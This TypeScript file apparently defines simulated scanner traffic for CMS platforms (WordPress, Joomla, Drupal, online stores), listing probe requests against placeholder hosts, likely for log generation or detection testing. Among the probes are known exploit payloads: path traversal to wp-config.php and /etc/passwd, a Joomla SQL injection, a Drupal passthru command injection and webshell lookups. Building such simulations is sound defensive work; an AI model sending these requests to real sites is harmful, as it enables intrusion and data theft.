import { scan } from '../second/kind.ts';
import { BROWSERS, FAKED, LIBRARIES, PHONES } from './agents.ts';

/** Scanners in search of systems with known holes, and of shells that others left behind. */
export const CMS_SCANS = [
  scan(
    'WordPress in every folder of a site that has none',
    { on: ['api.tallyho.example', 'www.brookfield-dental.example'], agents: FAKED, pace: 0.3 },
    `
    GET /wp-includes/wlwmanifest.xml
    GET /xmlrpc.php?rsd
    GET /blog/wp-includes/wlwmanifest.xml
    GET /web/wp-includes/wlwmanifest.xml
    GET /wordpress/wp-includes/wlwmanifest.xml
    GET /website/wp-includes/wlwmanifest.xml
    GET /wp/wp-includes/wlwmanifest.xml
    GET /2019/wp-includes/wlwmanifest.xml
    GET /shop/wp-includes/wlwmanifest.xml
    GET /wp1/wp-includes/wlwmanifest.xml
    GET /cms/wp-includes/wlwmanifest.xml
    GET /sito/wp-includes/wlwmanifest.xml
    `,
  ),
  scan(
    'logins of WordPress where there is none',
    { on: ['forms.eastmarsh.example', 'status.plumline.example'], agents: BROWSERS, pace: 5 },
    `
    GET /wp-login.php
    POST /wp-login.php
    GET /wp-admin/
    GET /wp-admin/setup-config.php?step=1
    GET /wordpress/wp-login.php
    GET /wp-admin/install.php
    POST /xmlrpc.php
    GET /old/wp-admin/
    `,
  ),
  scan(
    'a single look for wp-login, each from another address',
    {
      on: ['pay.tallyho.example', '198.51.100.23', 'm.northpier.example', 'docs.cartwheel.example'],
      agents: [...PHONES, ...BROWSERS],
      clients: 4,
      from: 'spread',
    },
    `
    GET /wp-login.php
    `,
  ),
  scan(
    'names of the authors of a WordPress',
    { on: ['www.gartenfreunde-lueneburg.example'], agents: FAKED, clients: 1, pace: 1.5 },
    `
    GET /?author=1 301
    GET /?author=2 301
    GET /?author=3 404
    GET /?author=4 404
    GET /wp-json/?rest_route=/wp/v2/users/ 401
    GET /wp-json/oembed/1.0/embed?url=https://www.gartenfreunde-lueneburg.example/ 200
    GET /author-sitemap.xml 200
    GET /wp-content/plugins/wp-file-manager/readme.txt
    GET /wp-content/debug.log
    `,
  ),
  scan(
    'plugins with holes, on a WordPress',
    { on: ['www.gartenfreunde-lueneburg.example', 'www.studio-ombra.example'], agents: LIBRARIES, pace: 0.4 },
    `
    GET /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php
    GET /wp-content/plugins/revslider/temp/update_extract/revslider/db.php
    GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php 400
    GET /wp-content/plugins/duplicator/installer.php
    GET /wp-content/plugins/backuply/readme.txt
    GET /wp-content/plugins/litespeed-cache/readme.txt
    GET /wp-content/plugins/really-simple-ssl/readme.txt
    GET /wp-content/plugins/essential-addons-for-elementor-lite/readme.txt
    GET /wp-content/plugins/wp-automatic/inc/csv.php
    GET /wp-content/plugins/ultimate-member/readme.txt
    GET /wp-content/plugins/mail-masta/inc/campaign/count_of_send.php?pl=/etc/passwd
    GET /wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php?ajax_path=/etc/passwd
    GET /wp-content/plugins/hellopress/wp_filemanager.php
    POST /wp-json/litespeed/v1/cdn_status
    GET /wp-content/plugins/suretriggers/readme.txt
    POST /wp-json/sure-triggers/v1/automation/action
    GET /wp-content/plugins/ottokit/readme.txt
    `,
  ),
  scan(
    'shells under short names',
    { on: ['www.lindqvist-bygg.example', 'cdn.mossbank.example'], agents: FAKED, pace: 0.2 },
    `
    GET /shell.php
    GET /c99.php
    GET /r57.php
    GET /wso.php
    GET /alfa.php
    GET /b374k.php
    GET /mini.php
    GET /1.php
    GET /xx.php
    GET /ws.php
    GET /fw.php
    GET /gecko.php
    GET /ALFA_DATA/alfacgiapi/perl.alfa
    GET /up.php
    GET /cmd.php?cmd=id
    GET /0x.php
    GET /adminfuns.php
    GET /chosen.php
    GET /bypass.php
    GET /leaf.php
    GET /marijuana.php
    GET /indoxploit.php
    `,
  ),
  scan(
    'shells in the folders of WordPress',
    {
      on: ['www.studio-ombra.example', 'www.rushmere-news.example'],
      agents: [FAKED[0] as string],
      pace: 0.25,
    },
    `
    GET /wp-content/plugins/fix/up.php
    GET /wp-content/plugins/pwnd/as.php
    GET /wp-content/themes/seotheme/db.php?u
    GET /wp-content/plugins/core-plugin/include.php
    GET /wp-includes/css/dist/wp-conflg.php
    GET /wp-includes/IXR/allez.php
    GET /wp-includes/rest-api/about.php
    GET /wp-admin/css/colors/blue/index.php
    GET /wp-admin/js/widgets/about.php7
    GET /wp-content/uploads/2023/wp-blog.php
    GET /wp-content/x/index.php
    GET /wp-includes/Text/Diff/Engine/wso.php
    GET /wp-admin/maint/maint.php
    GET /wp-2019.php
    GET /wp-sigunq.php
    GET /.well-known/pki-validation/xmrlpc.php
    GET /.well-known/acme-challenge/cloud.php
    GET /cgi-bin/wp-cron.php7
    `,
  ),
  scan(
    'holes of Joomla',
    { on: ['www.studio-ombra.example', 'sv-altental.example'], agents: FAKED, pace: 1.8 },
    `
    GET /administrator/manifests/files/joomla.xml
    GET /api/index.php/v1/config/application?public=true
    GET /api/index.php/v1/users?public=true
    GET /index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(0x23,concat(1,user()),1)
    GET /configuration.php.bak
    GET /configuration.php~
    GET /index.php?option=com_jce&task=plugin&plugin=imgmanager&file=imgmanager&version=1576&cid=20
    GET /components/com_foxcontact/foxcontact.php
    GET /images/stories/0day.php
    GET /libraries/joomla/jmails.php
    GET /tmp/vuln.php
    `,
  ),
  scan(
    'holes of Drupal',
    { on: ['www.halden-optik.example', 'portal.eastmarsh.example'], agents: LIBRARIES, pace: 1 },
    `
    POST /user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax
    POST /?q=user/password&name[%23post_render][]=passthru&name[%23markup]=id&name[%23type]=markup
    GET /CHANGELOG.txt
    GET /core/CHANGELOG.txt
    GET /sites/default/settings.php.bak
    POST /node/1?_format=hal_json
    GET /sites/default/files/.ht.sqlite
    GET /core/install.php
    `,
  ),
  scan(
    'holes of stores',
    {
      on: ['shop.hollyhock.example', 'www.oakridge-cycles.example'],
      agents: [...FAKED, ...BROWSERS],
      pace: 2.5,
    },
    `
    GET /magento_version
    GET /downloader/
    GET /app/etc/local.xml
    GET /app/etc/env.php.bak
    GET /errors/503.phtml.bak
    POST /rest/default/V1/guest-carts/1/estimate-shipping-methods?cmd=id
    GET /js/mage/mage.php
    GET /var/export/export_customers.csv
    GET /RELEASE_NOTES.txt
    POST /modules/columnadverts/uploadimage.php
    POST /modules/simpleslideshow/uploadimage.php
    GET /modules/ps_facetedsearch/vendor/phpunit/phpunit/phpunit
    GET /index.php/admin/Cms_Wysiwyg/directive/index/
    GET /media/custom_options/quote/a/c/accesson.php
    GET /pub/media/custom_options/quote/x/x/x.phtml
    `,
  ),
] as const;
